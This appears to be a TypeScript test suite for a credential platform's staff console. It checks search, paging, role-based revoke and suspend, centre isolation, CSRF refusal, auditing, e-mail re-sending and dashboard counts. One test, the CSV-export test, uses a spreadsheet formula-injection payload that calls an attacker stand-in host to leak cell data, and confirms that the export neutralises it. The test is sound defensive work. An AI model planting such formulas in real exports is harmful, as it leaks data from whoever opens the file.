import { randomUUID } from 'node:crypto';
import { and, eq } from 'drizzle-orm';
import t from 'tap';
import { auditEvents, batches } from '../../../src/db/schema/index.js';
import { countUnfinishedBatches } from '../../../src/modules/batches/repository.js';
import { credentialCounts } from '../../../src/modules/credentials/repository.js';
import { ROLE_PERMISSIONS } from '../../../src/modules/staff/roles.js';
import { escapeHtml } from '../../../src/web/html.js';
import { consoleMessages } from '../../../src/web/console/messages/index.js';
import { build, createCentreWithClient, demoToken, firstAchievementId } from '../../helper.js';
import { csrfTokenOf, joinAs, postForm } from '../../support/console.js';
import { startTestSmtp } from '../../support/smtp.js';

// The console's credential pages over HTTP, as staff use them: search and its mistakes, pages of results, the CSV
// export (a spreadsheet must not run what learners typed), details with history, revoke/suspend behind a reason,
// re-sending by e-mail; and who may do what: a centre's staff see only their centre, a viewer or issuer cannot
// revoke, a platform admin reads a chosen centre without changing anything, a forged form changes nothing.

const smtp = await startTestSmtp(t);
const testApp = await build(t, { SMTP_URL: smtp.url });
const { app } = testApp;
const { db } = app.ctx;
const demo = { authorization: `Bearer ${await demoToken(testApp)}` };
const courseId = await firstAchievementId(app);
const en = consoleMessages('en');

const manager = await joinAs(app, { email: 'mona.manager@example.org', role: 'manager', name: 'Mona Manager' });
const viewer = await joinAs(app, { email: 'victor.viewer@example.org', role: 'viewer', name: 'Victor Viewer' });
const issuer = await joinAs(app, { email: 'ines.issuer@example.org', role: 'issuer', name: 'Ines Issuer' });
const admin = await joinAs(app, { email: 'ada.admin@example.org', role: 'admin', name: 'Ada Admin', centre: null });

/** Issues a credential through the API with these headers (a centre's token); its id. */
async function issued(headers: Record<string, string>, recipient: { name: string; email?: string }): Promise<string> {
  const response = await app.inject({ method: 'POST', url: '/api/v1/credentials', headers, payload: { achievementId: courseId, recipient } });
  if (response.statusCode !== 201) throw new Error(`issuing: ${response.statusCode} ${response.body}`);
  return response.json().id;
}

/** The credential as the API reports it to its centre (status, short code, revocation). */
async function viaApi(headers: Record<string, string>, id: string) {
  const response = await app.inject({ method: 'GET', url: `/api/v1/credentials/${id}`, headers });
  if (response.statusCode !== 200) throw new Error(`GET credential: ${response.statusCode} ${response.body}`);
  return response.json() as { status: string; shortCode: string; revocation: { reason: string } | null };
}

const lifecycleApi = (headers: Record<string, string>, id: string, action: 'revoke' | 'suspend', reason = 'set up by the test') =>
  app.inject({ method: 'POST', url: `/api/v1/credentials/${id}/${action}`, headers, payload: { reason } });

const get = (cookie: string, url: string) => app.inject({ method: 'GET', url, headers: { cookie } });

/** The credentials a list page links to, in its order. */
const listed = (body: string) => [...new Set([...body.matchAll(/href="\/console\/credentials\/([0-9a-f-]{36})\?/g)].map((match) => match[1]!))];

/** Whether a page shows this text (as the page escapes it). */
const shows = (body: string, text: string) => body.includes(escapeHtml(text));

/** The audit events of one credential with this action. */
const eventsOf = (credentialId: string, action: string) => db.select().from(auditEvents).where(and(eq(auditEvents.credentialId, credentialId), eq(auditEvents.action, action)));

const search = (cookie: string, fields: Record<string, string>) => get(cookie, `/console/credentials?${new URLSearchParams({ lang: 'en', ...fields })}`);

// Another centre with a credential of its own, which no staff member of egypt-demo may reach.
const other = await createCentreWithClient(testApp, { slug: 'other-centre', scopes: ['credentials:issue', 'credentials:read'] });
const otherHeaders = { authorization: `Bearer ${other.token}` };
const otherId = await issued(otherHeaders, { name: 'Outsider Learner', email: 'outsider@example.org' });

t.test('a centre\'s staff never reach another centre\'s credential: not found, not listed, not exported', async (t) => {
  const ownId = await issued(demo, { name: 'Insider Learner', email: 'insider@example.org' });
  for (const url of [`/console/credentials/${otherId}`, `/console/credentials/${otherId}?centre=other-centre`]) {
    const response = await get(manager.cookie, url);
    t.equal(response.statusCode, 404, url);
    t.match(response.headers['content-type'], /^text\/html/, 'a page, not problem+json');
    t.ok(shows(response.body, en.errors.notFound), 'the console\'s own words');
    t.notOk(shows(response.body, 'Outsider Learner'));
  }
  const french = await get(manager.cookie, `/console/credentials/${otherId}?lang=fr`);
  t.equal(french.statusCode, 404);
  t.ok(shows(french.body, consoleMessages('fr').errors.notFound), 'in the reader\'s language');

  const byName = await search(manager.cookie, { name: 'Outsider' });
  t.equal(byName.statusCode, 200);
  t.same(listed(byName.body), []);
  t.ok(shows(byName.body, en.credentials.noResults));
  t.same(listed((await search(manager.cookie, { email: 'outsider@example.org' })).body), [], 'nor by its e-mail');
  t.same(listed((await search(manager.cookie, { name: 'Insider' })).body), [ownId], 'while the centre\'s own is found');
  // a centre's staff member cannot choose a centre: the parameter is ignored, the export is their own centre's
  const csv = await get(manager.cookie, '/console/credentials/export.csv?centre=other-centre');
  t.equal(csv.statusCode, 200);
  t.match(csv.headers['content-disposition'], /filename="credentials-egypt-demo\.csv"/);
  t.ok(csv.body.includes(ownId));
  t.notOk(csv.body.includes(otherId));
  t.notOk(csv.body.includes('Outsider'));

  const revoke = await postForm(app, manager.cookie, `/console/credentials/${otherId}/revoke`, { reason: 'not ours' });
  t.equal(revoke.statusCode, 404, 'nor revoked');
  t.equal((await viaApi(otherHeaders, otherId)).status, 'active');
});

t.test('roles: a viewer and an issuer read but cannot revoke or suspend; a manager is offered both', async (t) => {
  const id = await issued(demo, { name: 'Role Learner', email: 'role.learner@example.org' });
  const revokeLink = `/console/credentials/${id}/revoke?`;
  // revoke and suspend need credentials:manage, which of a centre's roles only a manager holds
  t.same(Object.fromEntries((['viewer', 'issuer', 'manager'] as const).map((role) => [role, ROLE_PERMISSIONS[role].has('credentials:manage')])), { viewer: false, issuer: false, manager: true });

  for (const [role, member] of [['viewer', viewer], ['issuer', issuer]] as const) {
    t.equal((await get(member.cookie, '/console/credentials?lang=en')).statusCode, 200, `${role}: list`);
    const detail = await get(member.cookie, `/console/credentials/${id}?lang=en`);
    t.equal(detail.statusCode, 200, `${role}: details`);
    t.ok(shows(detail.body, 'Role Learner'));
    t.notOk(detail.body.includes(revokeLink), `${role}: no revoke button`);
    t.equal(detail.body.includes(`/console/credentials/${id}/redeliver`), role === 'issuer', `${role}: re-send offered to an issuer only (credentials:issue)`);
    for (const action of ['revoke', 'suspend'] as const) {
      const look = await get(member.cookie, `/console/credentials/${id}/${action}?lang=en`);
      t.equal(look.statusCode, 403, `${role}: GET ${action}`);
      t.ok(shows(look.body, en.errors.forbidden));
      t.equal((await postForm(app, member.cookie, `/console/credentials/${id}/${action}`, { reason: 'trying' })).statusCode, 403, `${role}: POST ${action}`);
    }
  }
  t.equal((await viaApi(demo, id)).status, 'active', 'nothing changed');
  t.same(await eventsOf(id, 'credential.revoked'), []);
  t.same(await eventsOf(id, 'credential.suspended'), []);

  const managed = await get(manager.cookie, `/console/credentials/${id}?lang=en`);
  t.ok(managed.body.includes(revokeLink), 'a manager sees the revoke button');
  t.ok(managed.body.includes(`/console/credentials/${id}/suspend?`));
});

t.test('a manager revokes with a reason: refused without one, then revoked, audited as the staff member, shown in the history', async (t) => {
  const id = await issued(demo, { name: 'Revoked Learner' });
  const confirm = await get(manager.cookie, `/console/credentials/${id}/revoke?lang=en`);
  t.equal(confirm.statusCode, 200);
  t.ok(shows(confirm.body, en.credential.confirmTitle.revoke));
  t.match(confirm.body, /<textarea id="reason" name="reason"/);

  for (const [reason, error] of [[undefined, en.credential.reasonRequired], ['   ', en.credential.reasonRequired], ['x'.repeat(501), en.credential.reasonTooLong]] as const) {
    const refused = await postForm(app, manager.cookie, `/console/credentials/${id}/revoke`, reason === undefined ? {} : { reason });
    t.equal(refused.statusCode, 422, `reason ${JSON.stringify(reason?.slice(0, 5))}`);
    t.ok(shows(refused.body, error));
    t.match(refused.body, /aria-invalid="true"/, 'the field is marked');
    t.ok(shows(refused.body, en.credential.confirmTitle.revoke), 'the confirmation page again');
  }
  t.equal((await viaApi(demo, id)).status, 'active', 'still active after the refusals');

  const done = await postForm(app, manager.cookie, `/console/credentials/${id}/revoke`, { reason: 'Issued by mistake' });
  t.equal(done.statusCode, 303);
  t.equal(done.headers.location, `/console/credentials/${id}?lang=en&done=revoke`);
  const after = await viaApi(demo, id);
  t.equal(after.status, 'revoked');
  t.equal(after.revocation?.reason, 'Issued by mistake');
  const [event, ...more] = await eventsOf(id, 'credential.revoked');
  t.same(more, [], 'one revocation');
  t.match(event, { actorKind: 'staff', actorStaffId: manager.staffId, actorClientId: null, target: `credential:${id}` });

  const page = await get(manager.cookie, done.headers.location as string);
  t.equal(page.statusCode, 200);
  t.ok(shows(page.body, en.credential.done.revoke), 'says it is done');
  t.match(page.body, /Issued by mistake/);
  t.ok(page.body.includes(`<bdi>Mona Manager</bdi> ${escapeHtml(en.actions['credential.revoked'])}`), 'the history names who revoked it');
  t.notOk(page.body.includes(`/console/credentials/${id}/revoke?`), 'no revoke button on a revoked credential');

  const again = await postForm(app, manager.cookie, `/console/credentials/${id}/revoke`, { reason: 'Twice' });
  t.equal(again.statusCode, 409, 'a revoked credential is not revoked again');
  t.match(again.headers['content-type'], /^text\/html/);
  t.equal((await eventsOf(id, 'credential.revoked')).length, 1);
});

t.test('a manager suspends and lifts the suspension, each audited as the staff member', async (t) => {
  const id = await issued(demo, { name: 'Suspended Learner' });
  for (const [action, status] of [['suspend', 'suspended'], ['unsuspend', 'active']] as const) {
    const response = await postForm(app, manager.cookie, `/console/credentials/${id}/${action}`, { reason: `Test ${action}` });
    t.equal(response.statusCode, 303, action);
    t.equal(response.headers.location, `/console/credentials/${id}?lang=en&done=${action}`);
    t.equal((await viaApi(demo, id)).status, status);
    const [event] = await eventsOf(id, `credential.${action}ed`);
    t.match(event, { actorKind: 'staff', actorStaffId: manager.staffId }, `${action} audited`);
    const page = await get(manager.cookie, response.headers.location as string);
    t.ok(shows(page.body, en.credential.done[action]));
    t.equal(page.body.includes(`/console/credentials/${id}/unsuspend?`), action === 'suspend', 'lifting offered only while suspended');
  }
});

t.test('CSRF: a revocation without the session\'s token is refused and changes nothing', async (t) => {
  const id = await issued(demo, { name: 'Forged Learner' });
  const otherSession = await csrfTokenOf(app, viewer.cookie);
  for (const csrf of ['not-the-token', otherSession]) {
    const response = await postForm(app, manager.cookie, `/console/credentials/${id}/revoke`, { reason: 'forged' }, { csrf });
    t.equal(response.statusCode, 403);
    t.ok(shows(response.body, en.errors.csrf));
  }
  // Without the field at all, the form's body schema (which requires _csrf) refuses it before the CSRF check runs.
  const withoutField = await app.inject({ method: 'POST', url: `/console/credentials/${id}/revoke`, headers: { cookie: manager.cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: 'reason=forged' });
  t.ok(withoutField.statusCode >= 400 && withoutField.statusCode < 500, `no token at all: refused (${withoutField.statusCode})`);
  t.equal((await viaApi(demo, id)).status, 'active');
  t.same(await eventsOf(id, 'credential.revoked'), []);
});

t.test('search: by part of the name, by e-mail in any case, by the code as typed, by status; mistakes are said per field', async (t) => {
  const amira = await issued(demo, { name: 'Searchable Amira Haddad', email: 'Amira.Haddad@Example.org' });
  const omar = await issued(demo, { name: 'Searchable Omar Farouk', email: 'omar.farouk@example.org' });
  t.equal((await lifecycleApi(demo, omar, 'revoke')).statusCode, 200);
  const typedCode = (await viaApi(demo, omar)).shortCode.toLowerCase().replaceAll('-', '');

  const found = async (fields: Record<string, string>) => {
    const response = await search(viewer.cookie, fields);
    t.equal(response.statusCode, 200, JSON.stringify(fields));
    return listed(response.body);
  };
  t.same(await found({ name: 'amira' }), [amira], 'part of the name, any case');
  t.same(await found({ email: 'AMIRA.HADDAD@EXAMPLE.ORG' }), [amira], 'the address in another case');
  t.same(await found({ email: 'amira@example.org' }), [], 'an address matches whole, not in part');
  t.same(await found({ code: typedCode }), [omar], `the code as typed: ${typedCode}`);
  t.same(await found({ name: 'Searchable', status: 'revoked' }), [omar]);
  t.same(await found({ name: 'Searchable', status: 'active' }), [amira]);
  t.same(new Set(await found({ name: 'Searchable' })), new Set([amira, omar]));

  const today = new Date().toISOString().slice(0, 10);
  const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
  t.same(new Set(await found({ name: 'Searchable', from: today, to: tomorrow })), new Set([amira, omar]), 'issued within the dates');
  t.same(await found({ name: 'Searchable', from: tomorrow }), [], 'none issued from tomorrow');

  for (const [fields, field, message] of [
    [{ email: 'amira@' }, 'email', en.credentials.invalid.email],
    [{ email: 'not an address' }, 'email', en.credentials.invalid.email],
    [{ from: 'yesterday' }, 'from', en.credentials.invalid.from],
    [{ to: '2026/01/01' }, 'to', en.credentials.invalid.to],
    [{ from: '2024-13-45' }, 'from', en.credentials.invalid.from],
    [{ code: 'EG-1234' }, 'code', en.credentials.invalid.code],
    [{ status: 'lost' }, 'status', en.credentials.invalid.status],
    [{ course: 'not-a-course' }, 'course', en.credentials.invalid.course],
  ] as const) {
    const response = await search(viewer.cookie, { name: 'Searchable', ...fields });
    t.equal(response.statusCode, 422, JSON.stringify(fields));
    t.ok(response.body.includes(`<a href="#${field}">${escapeHtml(message)}</a>`), `${field}: its message, linked to the field from the summary`);
    t.same(listed(response.body), [], 'no results for a search that could not be read');
  }
});

/** The href of a page's link with this text, unescaped. */
const linkTo = (body: string, text: string) => [...body.matchAll(/<a href="([^"]+)">([^<]+)<\/a>/g)].find((match) => match[2] === text)?.[1]?.replaceAll('&amp;', '&');

/** A CSV body's records (without the BOM), split on CRLF. */
const records = (body: string) => body.replace(/^\uFEFF/, '').split('\r\n').slice(0, -1);

t.test('results come 25 a page; the next page follows the cursor and keeps the search; the export holds them all', async (t) => {
  // a centre of its own with more credentials than a page holds
  const paging = await createCentreWithClient(testApp, { slug: 'paging-centre', scopes: ['credentials:issue', 'credentials:read'] });
  const pagingIds: string[] = [];
  for (let n = 1; n <= 27; n++) pagingIds.push(await issued({ authorization: `Bearer ${paging.token}` }, { name: `Paged Learner ${String(n).padStart(2, '0')}` }));
  const pagingViewer = await joinAs(app, { email: 'paging.viewer@example.org', role: 'viewer', centre: 'paging-centre' });
  const first = await search(pagingViewer.cookie, { name: 'Paged' });
  t.equal(first.statusCode, 200);
  const firstIds = listed(first.body);
  t.equal(firstIds.length, 25);
  t.equal(linkTo(first.body, en.common.newer), undefined, 'no newer page before the first');
  const next = linkTo(first.body, en.common.older);
  t.ok(next, 'a link to the next page');
  t.match(next, /name=Paged/, 'the search goes along');
  t.match(next, /cursor=/);
  const second = await get(pagingViewer.cookie, next!);
  t.equal(second.statusCode, 200);
  const secondIds = listed(second.body);
  t.equal(secondIds.length, 2);
  t.same(new Set([...firstIds, ...secondIds]), new Set(pagingIds), 'every credential once, on one page or the other');
  t.equal(linkTo(second.body, en.common.older), undefined, 'the last page');
  t.ok(linkTo(second.body, en.common.newer), 'back to the first');
  t.same(firstIds.slice(0, 2), [pagingIds[26], pagingIds[25]], 'newest first');

  const exported = records((await get(pagingViewer.cookie, '/console/credentials/export.csv?name=Paged')).body).slice(1);
  t.same(new Set(exported.map((row) => row.split(',')[0])), new Set(pagingIds), 'the export is not limited to a page');
});

t.test('the CSV export: the search\'s credentials, with a BOM and a header, every cell safe from formulas', async (t) => {
  const formula = await issued(demo, { name: '=HYPERLINK("http://evil.example/?"&A1) Export', email: 'formula@example.org' });
  const quoted = await issued(demo, { name: 'Export, "Quoted" Learner' });
  await issued(demo, { name: 'Somebody Else' });
  const response = await get(viewer.cookie, '/console/credentials/export.csv?name=export&lang=en');
  t.equal(response.statusCode, 200);
  t.match(response.headers['content-type'], /^text\/csv; charset=utf-8/);
  t.equal(response.headers['content-disposition'], 'attachment; filename="credentials-egypt-demo.csv"');
  t.ok(response.body.startsWith('\uFEFF'), 'a BOM, so spreadsheets read UTF-8');
  const [header, ...rows] = records(response.body);
  t.equal(header, 'id,url,name,email,course,issuedAt,status,shortCode');
  t.equal(rows.length, 2, 'one row per credential the search finds');
  const rowOf = (id: string) => rows.find((row) => row.startsWith(`${id},`));
  const { shortCode } = await viaApi(demo, formula);
  t.ok(rowOf(formula)?.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1) Export",formula@example.org,`), 'the formula neutralised by a leading quote');
  t.ok(rowOf(formula)?.endsWith(`,active,${shortCode}`), 'status and code last');
  t.match(rowOf(quoted), /,"Export, ""Quoted"" Learner",,/, 'a comma and quotes quoted as RFC 4180 says');
  const unreadable = await get(viewer.cookie, '/console/credentials/export.csv?email=nobody@');
  t.same(records(unreadable.body), ['id,url,name,email,course,issuedAt,status,shortCode'], 'a search that cannot be read exports no row');
});

t.test('a platform admin reads a chosen centre\'s credentials, read-only', async (t) => {
  const id = await issued(demo, { name: 'Admin Read Learner', email: 'admin.read@example.org' });
  t.equal((await get(admin.cookie, '/console/credentials')).statusCode, 404, 'no centre chosen');
  t.equal((await get(admin.cookie, '/console/credentials?centre=no-such-centre')).statusCode, 404, 'an unknown centre');
  const list = await search(admin.cookie, { centre: 'egypt-demo', name: 'Admin Read' });
  t.equal(list.statusCode, 200);
  t.same(listed(list.body), [id]);
  t.ok(list.body.includes(`href="/console/credentials/${id}?lang=en&amp;centre=egypt-demo"`), 'its links keep the centre');
  t.same(listed((await search(admin.cookie, { centre: 'other-centre', name: 'Outsider' })).body), [otherId], 'any centre');

  const detail = await get(admin.cookie, `/console/credentials/${id}?lang=en&centre=egypt-demo`);
  t.equal(detail.statusCode, 200);
  t.ok(shows(detail.body, 'Admin Read Learner'));
  for (const action of ['revoke', 'suspend', 'reissue']) t.notOk(detail.body.includes(`/console/credentials/${id}/${action}?`), `no ${action} button`);
  t.notOk(detail.body.includes('/redeliver'), 'no re-send button');
  t.equal((await get(admin.cookie, `/console/credentials/${id}?lang=en`)).statusCode, 404, 'without a centre, no credential');

  // credentials:manage and credentials:issue are no admin permissions: the console refuses before any service runs
  t.equal((await postForm(app, admin.cookie, `/console/credentials/${id}/revoke`, { reason: 'admin tries' })).statusCode, 403);
  t.equal((await postForm(app, admin.cookie, `/console/credentials/${id}/redeliver`)).statusCode, 403);
  t.equal((await viaApi(demo, id)).status, 'active');
  t.same(await eventsOf(id, 'credential.delivery-requested'), []);

  const csv = await get(admin.cookie, '/console/credentials/export.csv?centre=egypt-demo&name=Admin%20Read');
  t.equal(csv.headers['content-disposition'], 'attachment; filename="credentials-egypt-demo.csv"');
  t.equal(records(csv.body).length, 2);
});

t.test('re-sending by e-mail: the learner gets the message, the page says so, a credential without an address cannot be', async (t) => {
  const email = 'resend.learner@example.org';
  const id = await issued(demo, { name: 'Resend Learner', email });
  const response = await postForm(app, issuer.cookie, `/console/credentials/${id}/redeliver?lang=en`);
  t.equal(response.statusCode, 303);
  t.equal(response.headers.location, `/console/credentials/${id}?lang=en&done=redeliver`);
  const message = await smtp.nextMessageTo(email);
  t.match(message.text, /Resend Learner/, 'the learner\'s message arrived');
  t.match(String(message.html), `/credentials/${id}`, 'with the link to the credential');
  const [event] = await eventsOf(id, 'credential.delivery-requested');
  t.match(event, { actorKind: 'staff', actorStaffId: issuer.staffId });
  const page = await get(issuer.cookie, response.headers.location as string);
  t.ok(shows(page.body, en.credential.redelivered));
  t.ok(page.body.includes(email), 'the delivery is listed');

  const noAddress = await issued(demo, { name: 'No Address Learner' });
  const refused = await postForm(app, issuer.cookie, `/console/credentials/${noAddress}/redeliver`);
  t.equal(refused.statusCode, 422);
  t.match(refused.headers['content-type'], /^text\/html/);
});

t.test('the dashboard\'s figures: issued this month, active, revoked, cohorts being issued, of the centre only', async (t) => {
  const counting = await createCentreWithClient(testApp, { slug: 'counting-centre', scopes: ['credentials:issue', 'credentials:manage'] });
  const headers = { authorization: `Bearer ${counting.token}` };
  const ids: string[] = [];
  for (let n = 1; n <= 4; n++) ids.push(await issued(headers, { name: `Counted Learner ${n}` }));
  t.equal((await lifecycleApi(headers, ids[0]!, 'revoke')).statusCode, 200);
  t.equal((await lifecycleApi(headers, ids[1]!, 'suspend')).statusCode, 200);
  const batch = (centreId: string, state: (typeof batches.$inferInsert)['state']) => ({ id: randomUUID(), centreId, state, source: 'csv', totalRows: 1 });
  await db.insert(batches).values([
    batch(counting.centre.id, 'queued'),
    batch(counting.centre.id, 'running'),
    batch(counting.centre.id, 'completed'),
    batch(counting.centre.id, 'cancelled'),
    batch(other.centre.id, 'queued'),
  ]);

  const staff = await joinAs(app, { email: 'counting.viewer@example.org', role: 'viewer', centre: 'counting-centre' });
  const home = await get(staff.cookie, '/console?lang=en');
  t.equal(home.statusCode, 200);
  const figures = Object.fromEntries([...home.body.matchAll(/<li><strong>([^<]+)<\/strong>([^<]+)<\/li>/g)].map((match) => [match[2], match[1]]));
  const words = en.dashboard;
  t.same(figures, { [words.issuedThisMonth]: '4', [words.active]: '2', [words.revoked]: '1', [words.batchesRunning]: '2' });
  for (const [n, id] of ids.entries()) t.match(home.body, `<a href="/console/credentials/${id}?lang=en"><bdi>Counted Learner ${n + 1}</bdi></a>`, 'recent activity names the learner of each credential');

  const now = new Date();
  t.same(await credentialCounts(db, { centreId: counting.centre.id, since: new Date(now.getTime() + 60_000), now }), { issuedSince: 0, active: 2, revoked: 1 }, 'issued since: only after `since`');
  t.equal(await countUnfinishedBatches(db, counting.centre.id), 2);
  t.equal(await countUnfinishedBatches(db, null), 3, 'every centre\'s, for the platform');
});
